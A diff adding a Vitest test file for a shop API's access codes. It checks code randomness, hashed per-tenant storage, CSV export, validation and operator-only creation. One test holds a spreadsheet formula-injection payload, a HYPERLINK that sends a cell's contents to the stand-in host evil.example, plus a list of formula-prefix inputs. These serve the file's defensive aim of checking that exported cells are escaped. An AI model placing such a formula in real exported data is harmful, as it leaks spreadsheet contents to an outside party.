@@ -1,0 +1,77 @@
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { testOperatorKey } from '../../testing.ts';
+import { openShop, type Shop } from '../purchase/testing.ts';
+import { signedIn } from '../session/testing.ts';
+import { codeHash, newCode } from './code-text.ts';
+import { csvOf } from './csv.ts';
+import { codesIn, createCodes, redeem } from './testing.ts';
+
+let shop: Shop;
+beforeAll(async () => {
+  shop = await openShop();
+});
+afterAll(() => shop.close());
+
+it('[SEC-13] codes have 80 random bits, are all different, and are kept as keyed hashes of their tenant', async () => {
+  const { body } = await createCodes(shop.api, { count: 300 });
+  const codes = codesIn(body.content.csv);
+  expect(new Set(codes).size).toBe(300);
+  // Every letter at every place: none of the bits is always the same.
+  const many = Array.from({ length: 2000 }, newCode);
+  for (const at of [0, 3, 5, 18]) expect(new Set(many.map((code) => code[at])).size).toBe(32);
+  const stored = await shop.api.db.forTenant('alpha', ({ trx }) =>
+    trx.selectFrom('access_code').select(['hash', 'hint']).execute(),
+  );
+  const text = JSON.stringify(stored);
+  for (const code of codes) {
+    expect(text).not.toContain(code.replaceAll('-', '').slice(0, 12));
+    expect(text).not.toContain(code);
+  }
+  expect(codeHash('a secret', 'alpha', 'X')).not.toBe(codeHash('a secret', 'beta', 'X'));
+  expect(codeHash('a secret', 'alpha', 'X')).not.toBe(codeHash('another', 'alpha', 'X'));
+});
+
+it('the file of a batch is told once; later ones tell what became of its codes', async () => {
+  const { body } = await createCodes(shop.api, { count: 3, label: 'Members, spring' });
+  const [first = ''] = codesIn(body.content.csv);
+  const { access } = await signedIn(shop.api, 'ann');
+  await redeem(shop.api, { token: access }, first);
+  const { body: later } = await shop.api.call('operatorAccessCodeExport', {
+    operatorKey: testOperatorKey,
+    params: { id: body.content.id },
+  });
+  expect(codesIn(later.content.csv)).toEqual([]);
+  const [head, one, two] = later.content.csv.split('\r\n');
+  expect(head).toBe('"number","ends_with","label","uses","used","last_redeemed"');
+  expect(one).toMatch(
+    new RegExp(`^"1","${first.slice(-4)}","Members, spring","1","1","\\d{4}-.*Z"$`),
+  );
+  expect(two).toMatch(/"1","0",""$/);
+});
+
+it('no cell of the file is taken for a formula', async () => {
+  const attack = '=HYPERLINK("https://evil.example?"&A1,"click")';
+  const { body } = await createCodes(shop.api, { label: attack });
+  expect(body.content.csv).toContain('"\'=HYPERLINK(""https://evil.example?""&A1,""click"")"');
+  for (const value of ['=1', '+1', '-1', '@SUM(A1)', ' =1', '\t=1', '\r=1', '＝1'])
+    expect(csvOf([[value]])).toBe(`"'${value}"\r\n`);
+  expect(csvOf([['plain', 7, 'a "b"']])).toBe('"plain","7","a ""b"""\r\n');
+});
+
+it('a batch is for something that there is, and is made by operators alone', async () => {
+  const codeOf = (answer: { body: { messageErrorCode?: string } }) => answer.body.messageErrorCode;
+  expect(codeOf(await createCodes(shop.api, { productId: 'none' }))).toBe('product_not_found');
+  expect(codeOf(await createCodes(shop.api, { productId: 'ticket', eventId: 'none' }))).toBe(
+    'event_not_found',
+  );
+  expect(codeOf(await createCodes(shop.api, { productId: 'month', eventId: 'paid' }))).toBe(
+    'product_not_sold',
+  );
+  expect(codeOf(await createCodes(shop.api, { count: 5001 }))).toBe('validation_failed');
+  const { access } = await signedIn(shop.api, 'bea');
+  const { status } = await shop.api.call('operatorAccessCodeCreate', {
+    token: access,
+    body: { productId: 'month', count: 1, label: 'Mine' },
+  });
+  expect(status).toBe(401);
+});
